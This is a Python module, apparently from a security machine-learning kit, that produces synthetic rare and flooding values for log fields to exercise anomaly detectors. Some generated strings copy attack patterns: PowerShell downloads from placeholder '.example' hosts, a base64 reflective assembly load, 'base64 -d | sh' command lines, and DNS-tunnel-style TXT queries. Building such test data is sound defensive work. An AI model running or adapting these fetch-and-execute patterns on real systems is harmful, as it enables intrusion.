"""What is unusual: for a field, values that the baseline never holds, with every column that goes with them.

A rare process is not only another name: its path, arguments, hash and folder change too. So each entry is a
set of columns. Fields without a list of their own get a value made from a usual one.
"""

from __future__ import annotations

import ipaddress
from collections.abc import Callable, Iterator
from typing import Any

import numpy as np

from elastic_ml_kit.events.synth.places import geo, places, read_data
from elastic_ml_kit.events.synth.sources.cloud import call_columns
from elastic_ml_kit.events.synth.sources.linux import user_columns
from elastic_ml_kit.events.synth.sources.process import image, process_columns
from elastic_ml_kit.events.synth.sources.web import question
from elastic_ml_kit.events.synth.sources.windows import script_columns
from elastic_ml_kit.events.synth.sources.windows import user_columns as windows_user

Row = dict[str, Any]
Columns = dict[str, Any]


def rare_values(field: str, row: Row, rng: np.random.Generator) -> Iterator[Columns]:
    """Columns that make the field of an event rare, without end where values can be made up.

    Args:
        field: the field that has to be rare.
        row: the usual event that is changed.
        rng: order and made-up parts.
    """
    maker = _MAKERS.get(field)
    if maker is not None:
        yield from maker(row, rng)
    while True:
        yield {field: _made_up(row.get(field), rng)}


def many_values(field: str, row: Row, rng: np.random.Generator, count: int) -> list[Columns]:
    """`count` different sets of columns with long, varied values of the field: a flood of new information."""
    maker = _FLOODS.get(field)
    row = row | {"_tunnel": f"{_word(rng, 9)}.example"}
    if maker is not None:
        return [maker(row, rng, number) for number in range(count)]
    return [{field: f"{row.get(field) or field}-{_word(rng, 24)}"} for _ in range(count)]


def _word(rng: np.random.Generator, length: int) -> str:
    return "".join(rng.choice(list("abcdefghijklmnopqrstuvwxyz234567"), length))


def _shuffled(values: list[Any], rng: np.random.Generator) -> Iterator[Any]:
    for number in rng.permutation(len(values)):
        yield values[int(number)]


def _made_up(usual: Any, rng: np.random.Generator) -> Any:
    if isinstance(usual, int):
        return int(rng.integers(40_000, 60_000))
    try:
        ipaddress.ip_address(str(usual))
    except ValueError:
        return f"{usual or 'value'}-{_word(rng, 8)}"
    return _address(rng)


def _address(rng: np.random.Generator) -> str:
    return f"203.0.113.{rng.integers(1, 254)}"


def _system(row: Row) -> str:
    return "windows" if row.get("host.os.type") == "windows" else "linux"


def _processes(row: Row, rng: np.random.Generator) -> Iterator[Columns]:
    folder = row.get("process.working_directory")
    for command in _shuffled(read_data("lexicon")[_system(row)]["process"], rng):
        columns = process_columns(
            command, row.get("process.parent.executable") or "/usr/bin/bash", folder or "/tmp"
        )
        if "process.parent.name" not in row:
            columns = {key: columns[key] for key in ("process.name", "process.executable")}
        yield columns


def _users(row: Row, rng: np.random.Generator) -> Iterator[Columns]:
    if "aws.cloudtrail.user_identity.arn" in row:
        return
    for name in _shuffled(read_data("lexicon")[_system(row)]["user"], rng):
        table = windows_user([name], {}) if _system(row) == "windows" else user_columns([name])
        yield table.row(0, named=True)


def _sources(row: Row, rng: np.random.Generator) -> Iterator[Columns]:
    for place in _shuffled(places("rare"), rng):
        yield {**geo("source", place), "source.ip": _address(rng)}


def _countries(row: Row, rng: np.random.Generator) -> Iterator[Columns]:
    for place in _shuffled(places("rare"), rng):
        yield {**geo("destination", place), "destination.ip": _address(rng)}


def _lookups(row: Row, rng: np.random.Generator) -> Iterator[Columns]:
    while True:
        yield dict(question(f"{_word(rng, 14)}.{_word(rng, 7)}.example"))


def _domains(row: Row, rng: np.random.Generator) -> Iterator[Columns]:
    while True:
        name = f"cdn-{_word(rng, 5)}.{_word(rng, 9)}.example"
        yield {"server.domain": name, "destination.ip": _address(rng)} | (
            {"url.domain": name} if "url.domain" in row else {}
        )


def _urls(row: Row, rng: np.random.Generator) -> Iterator[Columns]:
    while True:
        yield {"url.path": f"/{_word(rng, 6)}/{_word(rng, 18)}.bin"}


def _working_folders(row: Row, rng: np.random.Generator) -> Iterator[Columns]:
    for folder in _shuffled(read_data("lexicon")["windows"]["folder"], rng):
        yield {"process.working_directory": folder}


def _services(row: Row, rng: np.random.Generator) -> Iterator[Columns]:
    for name in _shuffled(read_data("lexicon")["windows"]["service"], rng):
        yield {
            "winlog.event_data.ServiceName": name,
            "winlog.event_data.ImagePath": f"C:\\Windows\\Temp\\{_word(rng, 8)}.exe",
        }


def _scripts(row: Row, rng: np.random.Generator) -> Iterator[Columns]:
    while True:
        host = f"{_word(rng, 9)}.example"
        text = f"Invoke-WebRequest http://{host}/{_word(rng, 6)} -OutFile $env:TEMP\\{_word(rng, 5)}.dat"
        yield script_columns(f"C:\\Users\\Public\\{_word(rng, 6)}.ps1", text)


def _calls(row: Row, rng: np.random.Generator) -> Iterator[Columns]:
    for call in _shuffled(read_data("lexicon")["cloud"]["call"], rng):
        yield dict(call_columns(call))


def _errors(row: Row, rng: np.random.Generator) -> Iterator[Columns]:
    for code in _shuffled(read_data("lexicon")["cloud"]["error"], rng):
        yield {"aws.cloudtrail.error_code": code}


def _listed(field: str, key: str) -> Callable[[Row, np.random.Generator], Iterator[Columns]]:
    def values(row: Row, rng: np.random.Generator) -> Iterator[Columns]:
        for value in _shuffled(read_data("lexicon")["any"][key], rng):
            yield {field: value}

    return values


_MAKERS: dict[str, Callable[[Row, np.random.Generator], Iterator[Columns]]] = {
    "process.name": _processes,
    "process.executable": _processes,
    "process.working_directory": _working_folders,
    "user.name": _users,
    "source.ip": _sources,
    "destination.geo.country_name": _countries,
    "destination.port": _listed("destination.port", "port"),
    "dns.question.name": _lookups,
    "server.domain": _domains,
    "url.full": _urls,
    "user_agent.original": _listed("user_agent.original", "agent"),
    "winlog.event_data.ServiceName": _services,
    "powershell.file.script_block_hash": _scripts,
    "event.action": _calls,
    "aws.cloudtrail.error_code": _errors,
}


def _denied_call(row: Row, rng: np.random.Generator, number: int) -> Columns:
    arn = row.get("aws.cloudtrail.user_identity.arn")
    action = f"{str(row.get('event.provider')).split('.')[0]}:{row.get('event.action')}"
    return {
        "aws.cloudtrail.error_code": "AccessDenied",
        "aws.cloudtrail.error_message": f"User: {arn} is not authorized to perform: {action} "
        f"on resource: arn:aws:s3:::{_word(rng, 7)}-{number:02d}",
    }


def _long_script(row: Row, rng: np.random.Generator, number: int) -> Columns:
    payload = "".join(
        rng.choice(list("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"), 6000)
    )
    text = (
        f"$d=[Convert]::FromBase64String('{payload}');"
        "[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
    )
    return script_columns(f"C:\\Users\\Public\\{_word(rng, 6)}.ps1", text)


def _long_command(row: Row, rng: np.random.Generator, number: int) -> Columns:
    payload = "".join(
        rng.choice(list("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"), 1500)
    )
    command = f"{row['process.executable']} -c 'echo {payload} | base64 -d | sh'"
    return {
        "process.command_line": command,
        "process.title": command[:4096],
        "process.args": [row["process.executable"], "-c", command[len(row["process.executable"]) + 4 :]],
        "process.args_count": 3,
        "process.name": image(row["process.executable"]),
    }


def _tunnel(row: Row, rng: np.random.Generator, number: int) -> Columns:
    labels = ".".join(_word(rng, 55) for _ in range(4))
    return dict(question(f"{labels}.{row['_tunnel']}", "TXT"))


def _guessed_user(row: Row, rng: np.random.Generator, number: int) -> Columns:
    return {"user.name": f"{_word(rng, int(rng.integers(4, 9)))}.{_word(rng, int(rng.integers(5, 11)))}"}


_FLOODS: dict[str, Callable[[Row, np.random.Generator, int], Columns]] = {
    "aws.cloudtrail.error_message": _denied_call,
    "powershell.file.script_block_text": _long_script,
    "process.command_line": _long_command,
    "dns.question.name": _tunnel,
    "user.name": _guessed_user,
}
